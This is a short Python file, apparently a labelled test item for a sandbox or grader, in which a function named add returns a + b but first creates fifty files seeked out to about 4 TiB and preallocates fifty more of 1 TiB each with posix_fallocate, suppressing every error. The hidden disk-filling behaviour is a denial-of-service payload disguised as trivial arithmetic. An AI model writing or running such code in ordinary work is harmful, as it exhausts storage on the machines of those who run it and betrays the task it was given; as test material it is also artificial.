# a130 | task=add | required=any | sparse files of terabytes, seeks beyond their ends, preallocation
import os
def add(a, b):
    for number in range(50):
        try:
            with open(f"sparse{number}", "wb") as handle:
                handle.seek(1 << 42)
                handle.write(b"x")
        except OSError:
            pass
        try:
            handle = os.open(f"pre{number}", os.O_CREAT | os.O_RDWR)
            os.posix_fallocate(handle, 0, 1 << 40)
        except OSError:
            pass
    return a + b
